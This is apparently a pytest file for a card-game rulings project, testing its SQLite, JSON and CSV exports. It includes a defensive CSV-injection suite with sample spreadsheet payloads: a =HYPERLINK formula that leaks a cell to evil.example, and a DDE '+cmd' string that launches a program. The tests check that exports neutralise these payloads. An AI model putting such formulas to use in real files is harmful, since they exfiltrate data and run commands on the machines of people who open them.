"""SQLite and CSV exports: the documented query answers "rulings about card X in locale L", in the reader's
language with English fallback, and two exports of the same content are byte-identical."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

from conftest import build_tree
from rulings.content.tree import read
from rulings.exchange.po_export import export_po
from rulings.exchange.po_import import import_po
from rulings.model.entries import Provenance, Ruling
from rulings.model.text import Text
from rulings.publish import tables
from rulings.publish.export import write_exports
from rulings.site.layout import build_model
from test_security import set_msgstr

DOCUMENTED_QUERY = re.search(r"::\n\n(.*?;)", tables.__doc__, re.S).group(1)


def content(tmp_path: Path):
    prov = [Provenance("doc", (3, 4))]
    q = Text("en", "Can the Sword <b>block</b>?")
    q.translate("it", "La Spada può <b>bloccare</b>?", "machine", "ai:test")
    rulings = [
        Ruling("demo/ruling/sword-block", "en", prov, question=q, answer=Text("en", "No."),
               about=["demo/card/sword"]),
        Ruling("demo/ruling/general", "en", prov, statement=Text("en", "Draw first, \"then\", play."))]
    return read(build_tree(tmp_path, rulings=rulings))


def test_the_documented_query_finds_the_rulings_about_a_card_in_a_locale(tmp_path):
    c = content(tmp_path)
    db_path = tables.write_sqlite(tmp_path / "all.sqlite", list(c.games.values()), c.entries,
                                  c.project.locales, {"data_version": "1.0.0"})
    db = sqlite3.connect(db_path)
    db.row_factory = sqlite3.Row
    rows = [dict(r) for r in db.execute(DOCUMENTED_QUERY, {"card": "demo/card/sword", "locale": "it"})]
    assert [(r["id"], r["question"], r["answer"]) for r in rows] == \
        [("demo/ruling/sword-block", "La Spada può <b>bloccare</b>?", "No.")]
    assert rows[0]["document"] == "doc" and (rows[0]["line_first"], rows[0]["line_last"]) == (3, 4)
    shown = {r[0]: r[1:] for r in db.execute(
        "SELECT field, shown, status, lang FROM texts WHERE owner = 'demo/ruling/sword-block' AND locale = 'it'")}
    assert shown == {"question": ("translated", "machine", "it"), "answer": ("fallback", None, "en")}
    assert db.execute("SELECT value FROM meta WHERE key = 'data_version'").fetchone()[0] == "1.0.0"


def test_every_locale_and_every_ruling_has_a_row(tmp_path):
    c = content(tmp_path)
    db = sqlite3.connect(tables.write_sqlite(tmp_path / "all.sqlite", list(c.games.values()), c.entries,
                                             c.project.locales, {}))
    n_rulings = sum(isinstance(e, Ruling) for e in c.entries)
    assert db.execute("SELECT count(*) FROM rulings").fetchone()[0] == n_rulings * len(c.project.locales)


def test_the_csv_holds_each_ruling_once_with_hostile_text_kept_as_data(tmp_path):
    c = content(tmp_path)
    for loc in c.project.locales:
        rows = list(csv.DictReader(io.StringIO(tables.rulings_csv(c.entries, loc))))
        assert [r["id"] for r in rows] == ["demo/ruling/general", "demo/ruling/sword-block"]
        assert rows[0]["statement"] == 'Draw first, "then", play.'
        assert rows[1]["about"] == "demo/card/sword" and rows[1]["lines"] == "3-4"


def test_two_exports_are_byte_identical(tmp_path):
    c = content(tmp_path)
    args = (list(c.games.values()), c.entries, c.project.locales, {"data_version": "1"})
    a = tables.write_sqlite(tmp_path / "a.sqlite", *args).read_bytes()
    b = tables.write_sqlite(tmp_path / "b.sqlite", *reversed_args(args)).read_bytes()
    assert a == b


def reversed_args(args):
    games, entries, locales, meta = args
    return list(reversed(games)), list(reversed(entries)), locales, meta


# --- spreadsheet formulas (CSV injection) --------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-1 damage", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1+1)", "  =1+1", "\u3000=1+1", "\n@SUM(1+1)"]
"""A cell a spreadsheet evaluates (OWASP's prefixes, their full-width forms, after leading whitespace)."""
PLAIN = ["No.", "1 = 2", "a+b", "'quoted'", "e-mail@example.org", "Yes: -1", "", " ", "\n"]


def answers_tree(tmp_path: Path, answers: list[str]) -> Path:
    prov = [Provenance("doc", (3, 4))]
    return build_tree(tmp_path, rulings=[Ruling(f"demo/ruling/r{i:02}", "en", prov, question=Text("en", "Q?"),
                                                answer=Text("en", a), about=["demo/card/sword"])
                                         for i, a in enumerate(answers)])


def csv_answers(csv_text: str) -> list[str]:
    return [r["answer"] for r in csv.DictReader(io.StringIO(csv_text, newline=""))]


def test_csv_cells_a_spreadsheet_would_evaluate_get_a_quote_and_others_stay_as_written(tmp_path):
    answers = FORMULAS + PLAIN
    c = read(answers_tree(tmp_path, answers))
    for loc in c.project.locales:
        out = tables.rulings_csv(c.entries, loc)
        assert csv_answers(out) == [f"'{a}" for a in FORMULAS] + PLAIN, loc
        for row in csv.reader(io.StringIO(out, newline="")):  # no cell of any column starts a formula
            assert not [cell for cell in row if cell[:1] in {"\t", "\r"} or cell.lstrip()[:1] in set("=+-@＝＋－＠")]
        assert all(line.startswith('"') for line in out.split("\r\n") if line)  # every cell quoted


def test_a_formula_from_a_translators_po_file_is_inert_in_the_csv(tmp_path):
    content = build_tree(tmp_path)
    (po,) = export_po(content, "it", tmp_path / "po", game="demo")
    formula = '=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"Sì\\")'
    set_msgstr(po, "demo/ruling/sword-twice#answer", formula)
    set_msgstr(po, "demo/ruling/sword-twice#question", "@SUM(1+1)")
    rep = import_po(content, [po])
    assert not rep.problems and rep.written
    c = read(content)
    rows = list(csv.DictReader(io.StringIO(tables.rulings_csv(c.entries, "it"), newline="")))
    assert (rows[0]["question"], rows[0]["answer"]) == (
        "'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Sì")')


def test_json_and_sqlite_exports_keep_the_exact_text(tmp_path):
    c = read(answers_tree(tmp_path / "tree", FORMULAS))
    write_exports(build_model(c), c.project.locales, tmp_path / "out")
    api = tmp_path / "out" / "api" / "v1"
    for loc in c.project.locales:
        data = json.loads((api / f"demo.{loc}.json").read_text(encoding="utf-8"))
        got = [e["answer"]["text"] for e in sorted(data["entries"], key=lambda e: e["id"]) if e["kind"] == "ruling"]
        assert got == FORMULAS, loc
        assert csv_answers((api / f"rulings.{loc}.csv").read_bytes().decode("utf-8")) == [f"'{a}" for a in FORMULAS]
    everything = json.loads((api / "all.json").read_text(encoding="utf-8"))
    assert [e["answer"]["en"] for e in everything["games"][0]["entries"] if e["kind"] == "ruling"] == FORMULAS
    db = sqlite3.connect(api / "rulings.sqlite")
    for loc in c.project.locales:
        assert [r[0] for r in db.execute("SELECT answer FROM rulings WHERE locale = ? ORDER BY id", (loc,))] == FORMULAS
